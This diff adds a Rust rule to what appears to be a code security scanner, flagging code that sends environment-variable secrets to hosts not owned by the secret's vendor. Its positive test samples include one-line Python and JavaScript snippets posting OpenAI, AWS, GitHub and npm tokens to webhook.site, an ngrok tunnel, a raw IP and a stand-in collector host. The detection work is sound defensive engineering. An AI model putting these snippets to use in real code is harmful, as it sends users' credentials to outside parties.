@@ -1,0 +1,128 @@
+//! `theft-variable-exfil`: a secret from a variable reaches a host that is not its maker's.
+
+use crate::finding::{Confidence, Severity};
+use crate::scan::code::Unit;
+use crate::scan::collecting_host::Collector;
+use crate::scan::operation::Origins;
+use crate::scan::rule::{Check, Reporter, Rule, Sample};
+use crate::scan::sending;
+use crate::scan::vendor;
+
+/// The rule.
+pub static RULE: Rule = Rule {
+    id: "theft-variable-exfil",
+    title: "Sends a secret from the environment to a host that is not its maker's",
+    severity: Severity::Blocker,
+    confidence: Confidence::High,
+    why: "A key in a variable is meant for one service; whoever else receives it acts in the name of its owner.",
+    fix: "Send the key to its own service only.",
+    references: &["CWE-200", "CWE-522", "OWASP-LLM02"],
+    hits: &[
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nrequests.post('https://webhook.site/0', json={'k': os.environ['OPENAI_API_KEY']})\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nrequests.post('http://198.51.100.7/in', data={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})\n",
+        ),
+        Sample::File(
+            "scripts/a.js",
+            "fetch('https://demo.ngrok.io/in', { method: 'POST', body: process.env.GITHUB_TOKEN });\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nrequests.post('https://collect.example.com', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+        ),
+        Sample::File(
+            "scripts/a.js",
+            "fetch('https://collect.example.com', { method: 'POST', body: process.env.GITHUB_TOKEN + process.env.NPM_TOKEN });\n",
+        ),
+    ],
+    misses: &[
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nkey = os.environ['DEMO_API_KEY']\nrequests.get('https://api.example.com', headers={'Authorization': key})\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': key})\n",
+        ),
+        Sample::File(
+            "a.sh",
+            "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nt = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{t}/sendMessage', data={'text': 'done'})\n",
+        ),
+        Sample::File(
+            "scripts/a.js",
+            "fetch('https://api.acme.example/v1', { headers: { 'x-key': process.env.ACME_API_KEY } });\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\nbase = os.environ['API_BASE']\nrequests.post(base, headers={'x': os.environ['OPENAI_API_KEY']})\n",
+        ),
+    ],
+    check: Check::Unit(check),
+};
+
+fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
+    for sending in sending::all(unit) {
+        if !sending.origins.has(Origins::VARIABLE)
+            || sending.origins.has(Origins::SENSITIVE)
+            || sending.origins.has(Origins::ENVIRONMENT)
+        {
+            continue;
+        }
+        let mut names = sending.variables(unit);
+        names.retain(|name| vendor::is_secret_name(name));
+        let Some(name) = names.first() else { continue };
+        if let Some(collector) = sending.collector {
+            let own = match collector {
+                Collector::ChatHook => {
+                    // A bot's own token in its own chat.
+                    let host = sending.host.as_deref().unwrap_or_default();
+                    vendor::of_variable(name).is_none_or(|vendor| vendor.owns(host))
+                        || vendor::share_a_word(name, host)
+                }
+                // People's own machines have addresses without names.
+                Collector::RawAddress
+                | Collector::Tunnel
+                | Collector::DynamicName
+                | Collector::Onion
+                | Collector::RequestBin
+                | Collector::Shortener
+                | Collector::Paste
+                | Collector::FileDrop => sending
+                    .host
+                    .as_deref()
+                    .is_some_and(|host| vendor::share_a_word(name, host)),
+            };
+            if !own {
+                reporter
+                    .raise_flow(sending.span, &sending.way)
+                    .message(format!("Sends the secret `{name}` to {}", collector.word()));
+            }
+            continue;
+        }
+        let Some(host) = &sending.host else { continue };
+        let foreign = names.iter().all(|name| {
+            vendor::of_variable(name)
+                .is_some_and(|vendor| !vendor.owns(host) && !vendor::share_a_word(name, host))
+        });
+        if !foreign {
+            continue;
+        }
+        // A gateway in front of several makers speaks for the person; only a
+        // look at it can tell.
+        reporter
+            .raise_flow(sending.span, &sending.way)
+            .message(format!(
+                "Sends the secret `{name}` to `{host}`, which is not its maker's"
+            ))
+            .severity(Severity::Error)
+            .confidence(Confidence::Medium);
+    }
+}
